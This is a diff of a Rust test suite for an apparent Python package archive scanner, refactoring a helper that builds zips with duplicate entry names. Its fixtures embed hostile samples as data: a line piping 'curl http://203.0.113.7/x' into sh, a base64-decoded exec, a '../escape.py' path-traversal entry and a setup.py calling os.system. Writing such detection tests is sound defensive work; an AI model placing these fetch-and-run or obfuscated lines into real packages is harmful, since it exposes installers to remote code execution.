@@ -147,21 +147,27 @@ fn a_gzip_bomb_stops_at_the_cap() {
     assert!(stopped, "{:?}", rules(&report));
 }
 
-#[test]
-fn duplicate_names_are_flagged() {
+/// A zip with two entries named `a.py` (`first`, then `second`).
+fn zip_with_duplicate(first: &[u8], second: &[u8]) -> Vec<u8> {
     let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
     let options = zip::write::SimpleFileOptions::default();
     zip.start_file("a.py", options).unwrap();
-    zip.write_all(b"1").unwrap();
+    zip.write_all(first).unwrap();
     // The zip crate refuses a second entry of the same name, so rename it in the bytes.
     zip.start_file("b.py", options).unwrap();
-    zip.write_all(b"2").unwrap();
+    zip.write_all(second).unwrap();
     let mut bytes = zip.finish().unwrap().into_inner();
     let mut i = 0;
     while let Some(pos) = bytes[i..].windows(4).position(|w| w == b"b.py") {
         bytes[i + pos] = b'a';
         i += pos + 4;
     }
+    bytes
+}
+
+#[test]
+fn duplicate_names_are_flagged() {
+    let bytes = zip_with_duplicate(b"1", b"2");
     let report = inspect_archive("demo-1.0-py3-none-any.whl", &bytes, &Limits::default());
     assert!(has(&report, "archive/duplicate-entry", Severity::Medium), "{:?}", rules(&report));
 }
@@ -178,15 +184,7 @@ fn inspect_on_disk(name: &str, bytes: &[u8]) -> Report {
 
 #[test]
 fn streaming_from_a_file_finds_what_reading_from_memory_finds() {
-    let mut dup = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
-    let options = zip::write::SimpleFileOptions::default();
-    dup.start_file("a.py", options).unwrap();
-    dup.write_all(b"import os\nos.system('curl http://203.0.113.7/x | sh')\n").unwrap();
-    dup.start_file("b.py", options).unwrap();
-    dup.write_all(b"2").unwrap();
-    let mut dup = dup.finish().unwrap().into_inner();
-    let at = dup.windows(4).rposition(|w| w == b"b.py").unwrap();
-    dup[at] = b'a';
+    let dup = zip_with_duplicate(b"import os\nos.system('curl http://203.0.113.7/x | sh')\n", b"2");
     let wheel = zip_of(&[("demo/__init__.py", b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"), ("../escape.py", b"x")]);
     let sdist = tar_gz_of(&[TarEntry::File("demo-1.0/PKG-INFO", PKG_INFO), TarEntry::File("demo-1.0/setup.py", b"import os\nos.system('id')\n")]);
     let cases: [(&str, &[u8]); 5] = [
